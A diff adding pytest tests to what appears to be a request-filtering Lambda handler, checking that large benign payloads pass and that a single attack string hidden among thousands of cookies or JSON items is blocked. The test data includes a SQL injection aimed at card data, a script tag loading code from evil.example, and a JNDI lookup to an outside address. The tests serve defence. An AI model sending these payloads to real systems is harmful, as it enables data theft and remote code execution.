@@ -178,6 +178,40 @@ LOG = "".join(
 )
 
 
+def test_a_body_as_large_as_lambda_lets_through_passes(capsys):
+    rows = [
+        {"id": at, "name": "Ann O'Brien", "mail": f"ann{at}@example.com", "note": "fine, thanks", "tags": ["one", "two"]}
+        for at in range(48_000)
+    ]
+    body = json.dumps(rows)
+    assert 5_000_000 < len(body) < 6_000_000
+    assert handler(posted("application/json", body), None)["statusCode"] == 200
+    assert "LG-" not in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("count", [10, 5_000])
+@pytest.mark.parametrize(
+    "attack", ["id=1' UNION SELECT card FROM payments-- -", "a=b; c=<script src=//evil.example/x.js></script>"]
+)
+def test_one_cookie_among_many(attack, count, capsys):
+    cookies = [f"c{at}=v{at}; path" for at in range(count)]
+    event = {**posted("text/plain", "x"), "cookies": cookies}
+    assert handler(event, None)["statusCode"] == 200
+    event["cookies"] = [*cookies[: count // 2], attack, *cookies[count // 2 :]]
+    assert handler(event, None)["statusCode"] == 403
+    assert " in cookie" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("broken", [[], ['["'], ["{]"]], ids=["well-formed", "a quote", "brackets"])
+@pytest.mark.parametrize("attack", ["1' UNION SELECT card FROM payments-- -", "<script src=//evil.example/x.js></script>"])
+def test_one_of_many_texts_that_are_json(attack, broken, capsys):
+    texts = [json.dumps({"id": at, "name": f"Ann {at}", "tags": ["one"]}) for at in range(9_000)]
+    assert handler(posted("application/json", json.dumps([*texts, *broken])), None)["statusCode"] == 200
+    texts[5_000] = json.dumps({"id": 5_000, "name": attack})
+    assert handler(posted("application/json", json.dumps([*broken, *texts])), None)["statusCode"] == 403
+    assert f"[{5_000 + len(broken)}].name" in capsys.readouterr().out
+
+
 @pytest.mark.parametrize("at", [300_000, 500_000, 777_000])
 @pytest.mark.parametrize("attack", ["<script src=//evil.example/x.js></script>", "${jndi:ldap://203.0.113.66/a}"])
 def test_a_line_of_a_log_that_is_full_of_marks(attack, at, capsys):
